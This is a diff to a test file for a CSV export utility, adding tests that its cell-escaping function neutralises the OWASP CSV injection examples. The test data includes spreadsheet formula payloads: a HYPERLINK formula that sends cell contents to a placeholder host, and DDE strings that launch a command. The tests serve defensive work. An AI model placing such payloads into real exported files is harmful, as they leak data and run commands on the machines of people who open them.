@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { csvEscapeCell, csvHeaderWithUnit, csvUnescapeCell, parseCsvRecords, toCsvDocument } from '../../../shared/utils/csv'
+import { csvEscapeCell, csvHeaderWithUnit, csvLine, csvUnescapeCell, parseCsvRecords, toCsvDocument } from '../../../shared/utils/csv'
 
 // Formula characters after the OWASP "CSV Injection" guidance: = + - @ tab and carriage return start a formula in a
 // spreadsheet when a text cell begins with them.
@@ -51,6 +51,37 @@ describe('csvEscapeCell', () => {
     const doc = toCsvDocument(['v'], values.map((v) => [v]))
     const back = parseCsvRecords(doc).slice(1).map((r) => csvUnescapeCell(r[0]!))
     expect(back).toEqual(values)
+  })
+})
+
+// The examples of the OWASP "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection): each payload must
+// reach the file as text a spreadsheet will not evaluate: a leading apostrophe, the cell in double quotes whenever it
+// holds a quote or separator, and every quote doubled. The two escaped forms are the page's own worked examples.
+describe('csvEscapeCell against the OWASP CSV injection examples', () => {
+  it('escapes the page\'s two worked examples exactly as the page does', () => {
+    expect(csvEscapeCell('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`)
+    expect(csvEscapeCell(`=1+2'" ;,=1+2`)).toBe(`"'=1+2'"" ;,=1+2"`)
+  })
+
+  it('neutralises the page\'s attack payloads and each character it lists (= + - @ tab CR)', () => {
+    const payloads = [
+      '=HYPERLINK("http://evil.invalid?leak="&A1&A2,"Error: please click for further information")',
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '=1+1', '+1', '-1', '@SUM(1)', '\t=1+1', '\r=1+1',
+    ]
+    for (const p of payloads) {
+      const [cell] = parseCsvRecords(csvEscapeCell(p) + '\r\n')[0]!
+      expect(cell![0], JSON.stringify(p)).toBe("'")
+      expect(csvUnescapeCell(cell!)).toBe(p)
+    }
+  })
+
+  it('leaves numbers alone: -3.2 stays the number -3.2, and a formula character inside text is harmless', () => {
+    expect(csvEscapeCell(-3.2)).toBe('-3.2')
+    expect(csvLine([-3.2, '-3.2', 'A=B', 'x@y.test'])).toBe("-3.2,'-3.2,A=B,x@y.test")
   })
 })
 
